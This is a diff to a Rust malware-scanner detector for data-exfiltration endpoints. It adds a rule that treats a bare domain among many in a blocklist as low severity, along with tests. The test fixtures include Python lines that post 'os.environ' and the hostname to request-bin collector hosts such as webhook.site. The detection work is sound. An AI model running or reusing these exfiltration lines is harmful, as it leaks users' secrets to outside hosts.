@@ -9,6 +9,9 @@
 //! system facts; so is an API URL template whose token is a format slot
 //! (`bot{0}/{1}`, `bot%s/`): exfiltration needs a sensitive source reaching the sink.
 //!
+//! A destination by reputation that is one bare-domain literal among many (a disposable-mail
+//! blocklist) is Low: a list of domains is data about them.
+//!
 //! Harvesting includes reading the importing program's own source (`open(sys.argv[0])`,
 //! `inspect.getsource(sys.modules['__main__'])`): code theft from whoever imports the package.
 //!
@@ -42,7 +45,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 6,
+    revision: 7,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -138,6 +141,29 @@ static INTEREST: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
 fn in_sentence(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> bool {
     super::fs_credential_access::in_prose(src, start, end)
         && src.span_at(start).is_some_and(|s| src.text[s.body_start..s.body_end].split_whitespace().count() >= 4)
+}
+
+/// A string literal holding one bare domain name (no scheme, path or space).
+static BARE_DOMAIN_LITERAL: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"["'][A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+["']"#).expect("bare domain literal"));
+/// How many bare-domain literals around a host make a list of domains, and how far to look.
+const DOMAIN_LIST_MIN: usize = 20;
+const DOMAIN_LIST_WINDOW: usize = 2000;
+
+/// Whether the host at `start..end` is a whole string literal (a bare domain) with at least
+/// [`DOMAIN_LIST_MIN`] other bare-domain literals within [`DOMAIN_LIST_WINDOW`] bytes: an entry
+/// of a list of domains (a blocklist), not an endpoint. A URL (`"https://webhook.site/…"`), a
+/// host with a path, or a handful of hosts (a rotation of collectors) is not.
+fn in_domain_list(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> bool {
+    let Some(span) = src.span_at(start).filter(|s| s.kind == Kind::Str) else {
+        return false;
+    };
+    if span.body_start != start || span.body_end != end {
+        return false;
+    }
+    let lo = pysrc::floor_char(src.text, start.saturating_sub(DOMAIN_LIST_WINDOW));
+    let hi = pysrc::floor_char(src.text, (end + DOMAIN_LIST_WINDOW).min(src.text.len()));
+    BARE_DOMAIN_LITERAL.find_iter(&src.text[lo..hi]).take(DOMAIN_LIST_MIN + 1).count() > DOMAIN_LIST_MIN
 }
 
 /// Whether the host at byte `start` is the domain of an e-mail address (`name@host`): a
@@ -238,6 +264,12 @@ impl Detector for ExfilEndpoint {
             // code sends anything.
             if src.python && in_sentence(src, start, end) {
                 found.push((start, format!("{host} ({}, named in a message)", class.as_str()), Severity::Low));
+                continue;
+            }
+            // One bare domain among many in a list (a disposable-mail blocklist, a list of
+            // hosts to refuse): data about the host, not a place the code sends anything.
+            if src.python && in_domain_list(src, start, end) {
+                found.push((start, format!("{host} ({}, one of a list of domains)", class.as_str()), Severity::Low));
                 continue;
             }
             let receiver = matches!(class, Class::Collaborator | Class::RequestBin | Class::Tunnel);
@@ -347,6 +379,34 @@ mod tests {
             found += check(&text, &text);
         }
         assert!(found > 300, "the random texts hold matches: {found}");
+    }
+
+    #[test]
+    fn a_bare_host_in_a_list_of_domains_is_data_and_a_sent_to_host_still_counts() {
+        use crate::scan::detectors::testutil::scan;
+        let many: String = (0..30)
+            .map(|i| format!("\"disposable{i}.example\","))
+            .chain(["\"mywallet.example\",".to_string()])
+            .collect();
+        let list = format!("blacklist = set([{many}\"webhook.site\",{many}])\n");
+        let cases: &[(&str, String, Severity)] = &[
+            ("a disposable-mail blocklist naming a request bin (and a wallet domain)", list.clone(), Low),
+            (
+                "the same list beside a harvest posted to the request bin's URL",
+                format!("{list}requests.post('https://webhook.site/abc', data=dict(os.environ))\n"),
+                High,
+            ),
+            (
+                "a short rotation of collectors in a harvesting file",
+                "HOSTS = ['webhook.site', 'pipedream.net']\nrequests.post('https://' + HOSTS[0], data=socket.gethostname())\n".to_string(),
+                High,
+            ),
+        ];
+        for (name, text, want) in cases {
+            let got = scan(&ExfilEndpoint, "pkg/MailChecker.py", FileRole::Runtime, text);
+            let worst = got.iter().map(|g| g.severity).max();
+            assert_eq!(worst, Some(*want), "{name}: {got:?}");
+        }
     }
 
     #[test]
